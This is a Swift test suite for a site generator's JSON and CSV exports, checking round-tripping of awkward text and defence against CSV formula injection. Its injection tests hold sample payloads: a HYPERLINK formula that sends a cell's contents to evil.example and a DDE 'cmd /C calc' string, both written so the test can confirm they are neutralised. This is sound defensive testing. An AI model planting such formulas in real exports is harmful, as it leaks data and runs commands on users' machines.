import CSV
import Foundation
@testable import Render
import Testing
import TestSupport

/// The exports are read by other tools: text with quotes, commas, line breaks, backslashes,
/// control characters and non-ASCII letters must come back exactly as written.
@Suite struct ExportFormatTests {
    static let awkward = "She said \"no\", then: C:\\temp\\x, tab\there,\u{1}bell, ünïcödé — 👍🏽 </script> line\u{2028}separator"

    @Test func awkwardTextSurvivesTheJSONAndCSVExports() throws {
        let site = try FixtureSite(copying: "valid-site", [
            "content/quotes/awkward.md": """
            ---
            speaker: Parent
            programme: talent-match
            themes: [shared-benefits]
            consent: public
            ---
            \(Self.awkward)
            Second line, with a comma.
            """,
        ])
        let output = SiteBuilds.temporaryOutput()
        let outcome = SiteBuilds.build(site.root, into: output)
        try #require(outcome.succeeded, "\(outcome.diagnostics)")
        let files = try SiteFiles(folder: output)
        let expected = Self.awkward + "\nSecond line, with a comma."

        let jsonBytes = try #require(files.files["data/quotes.json"])
        let json = try #require(try JSONSerialization.jsonObject(with: Data(jsonBytes)) as? [[String: Any]])
        let record = try #require(json.first { $0["id"] as? String == "awkward" })
        #expect(record["text"] as? String == expected)
        #expect(record["themes"] as? [String] == ["shared-benefits"])
        #expect(record["case_study"] == nil, "a missing optional leaves its key out")

        let reader = try CSVReader(string: try #require(files.text("data/quotes.csv")), hasHeaderRow: true)
        var texts: [String: String] = [:]
        while let row = reader.next() { texts[row[0]] = row[1] }
        #expect(texts["awkward"] == expected)
        #expect(texts.count == json.count, "the CSV has a row for every quote in the JSON")
    }

    /// OWASP "CSV injection": a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return
    /// runs as a formula in Excel or LibreOffice. Every such cell of the export comes out quoted
    /// with a `'` in front, which spreadsheets show as text; JSON keeps the text as written.
    @Test func formulaLikeCellsOfTheCSVExportOpenAsText() throws {
        let formulas = [
            "f1": (text: "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")", speaker: "+1"),
            "f2": (text: "-2+3", speaker: "@SUM(1,2)"),
            "f3": (text: "@SUM(A1:A9)", speaker: "=cmd|' /C calc'!A0"),
        ]
        var files: [String: String] = [:]
        for (id, quote) in formulas {
            files["content/quotes/\(id).md"] =
                "---\nspeaker: '\(quote.speaker.replacingOccurrences(of: "'", with: "''"))'\nprogramme: talent-match\nthemes: [hard-work]\nconsent: public\n---\n\(quote.text)\n"
        }
        let site = try FixtureSite(copying: "valid-site", files)
        let output = SiteBuilds.temporaryOutput()
        let outcome = SiteBuilds.build(site.root, into: output)
        try #require(outcome.succeeded, "\(outcome.diagnostics)")
        let csv = try #require(try SiteFiles(folder: output).text("data/quotes.csv"))
        let reader = try CSVReader(string: csv, hasHeaderRow: true)
        var rows: [String: [String]] = [:]
        while let row = reader.next() { rows[row[0]] = row }
        for (id, quote) in formulas {
            let row = try #require(rows[id])
            #expect(row[1] == "'" + quote.text)
            #expect(row[2] == "'" + quote.speaker)
        }
        for row in rows.values {
            for cell in row { #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.prefix(1)), "\(cell)") }
        }
        #expect(csv.contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""))
    }

    /// Leading tabs and carriage returns cannot come from content (it is trimmed), but the one
    /// writer of CSV fields neutralises them too; other fields are written as before.
    @Test func csvTableNeutralisesEveryFormulaStart() {
        var table = CSVTable()
        table.append(row: ["\tTab", "\rCR", "-2", "+1", "@x", "=1", "plain", "a,b", "in-=side", ""])
        #expect(String(decoding: table.bytes, as: UTF8.self)
            == "\"'\tTab\",\"'\rCR\",\"'-2\",\"'+1\",\"'@x\",\"'=1\",plain,\"a,b\",in-=side,")
    }

    /// Excel in a locale whose list separator is `;` splits unquoted fields on it: `Hi;=1+1`
    /// would become a cell `=1+1`, a formula. Quoted, it stays one cell of text.
    @Test func aSemicolonCannotStartACellInSemicolonLocales() {
        var table = CSVTable()
        table.append(row: ["Hi;=HYPERLINK(\"https://evil.example\")", "a;b", "plain"])
        let text = String(decoding: table.bytes, as: UTF8.self)
        #expect(text == "\"Hi;=HYPERLINK(\"\"https://evil.example\"\")\",\"a;b\",plain")
        // Split as such a spreadsheet does: on `;` outside quotes, no cell starts a formula.
        var cells: [String] = [], cell = "", quoted = false
        for character in text {
            if character == "\"" { quoted.toggle() } else if character == ";" && !quoted { cells.append(cell); cell = "" } else { cell.append(character) }
        }
        cells.append(cell)
        #expect(cells.count == 1)
        #expect(!cells.contains { $0.hasPrefix("=") })
    }

    /// The hand-written JSON writer prints what Foundation's encoder printed before it, byte for byte.
    @Test func jsonBytesMatchFoundationsEncoder() throws {
        struct Record: Encodable {
            let text: String
            let list: [String]
            let empty: [String]
            let count: Int
            let flag: Bool
            let missing: String?
            let nested: [String: Int]
        }
        let controls = String(decoding: (0..<32).map { UInt8($0) } + Array("\"\\/ é".utf8), as: UTF8.self)
        let record = Record(
            text: Self.awkward + controls, list: ["a", "b/c"], empty: [], count: -42, flag: true, missing: nil,
            nested: ["zeta": 1, "alpha": 2, "case_study": 3, "caseStudy": 4])
        let value = JSONValue.object([
            "text": .string(record.text), "list": .strings(record.list), "empty": .array([]), "count": .int(record.count),
            "flag": .bool(record.flag), "missing": nil,
            "nested": .object(record.nested.map { (key: $0.key, value: JSONValue.int($0.value)) }),
        ])
        for pretty in [true, false] {
            let encoder = JSONEncoder()
            encoder.outputFormatting = pretty ? [.prettyPrinted, .sortedKeys, .withoutEscapingSlashes] : [.sortedKeys, .withoutEscapingSlashes]
            let foundation = String(decoding: try encoder.encode([record, record]), as: UTF8.self)
            let ours = String(decoding: JSONValue.array([value, value]).bytes(pretty: pretty), as: UTF8.self)
            #expect(ours == foundation, "pretty: \(pretty)")
        }
    }
}
